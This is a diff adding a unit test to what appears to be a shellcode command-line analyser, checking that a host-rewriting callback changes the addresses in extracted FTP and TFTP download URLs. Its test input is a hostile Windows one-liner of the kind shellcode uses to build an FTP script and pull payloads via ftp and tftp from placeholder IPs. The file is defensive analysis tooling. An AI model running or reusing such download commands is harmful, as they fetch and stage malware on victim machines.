@@ -509,6 +509,31 @@ test_host(void **state)
 	assert_string_equal(prompt(), "C:\\WINNT>");
 }
 
+static void
+host_rule(void *arg, const char *host, char *out, size_t len)
+{
+	(void)arg;
+	snprintf(out, len, "%s", strcmp(host, "0.0.0.0") == 0 ? host :
+	    "192.0.2.1");
+}
+
+/* A caller's own rule for addresses (the shell's: egress_host()). */
+static void
+test_host_callback(void **state)
+{
+	struct sc_cmd_ops	ops = { .fetch = fetch, .host = host_rule };
+
+	(void)state;
+	sc_cmd_free(st);
+	assert_non_null(st = sc_cmd_new(NULL, &ops, "198.51.100.7"));
+	nurls = 0;
+	expect("echo open 0.0.0.0 21>o&echo get a>>o&ftp -n -s:o&"
+	    "tftp -i 203.0.113.1 get b", "");
+	assert_int_equal(nurls, 2);
+	assert_string_equal(urls[0], "ftp://0.0.0.0:21/a");
+	assert_string_equal(urls[1], "tftp://192.0.2.1/b");
+}
+
 /* The analyser's use: command lines found in shellcode. */
 static void
 test_downloads(void **state)
@@ -544,6 +569,7 @@ main(void)
 		cmocka_unit_test_teardown(test_batch, teardown),
 		cmocka_unit_test_teardown(test_caps, teardown),
 		cmocka_unit_test_teardown(test_host, teardown),
+		cmocka_unit_test_teardown(test_host_callback, teardown),
 		cmocka_unit_test(test_downloads),
 	};
 
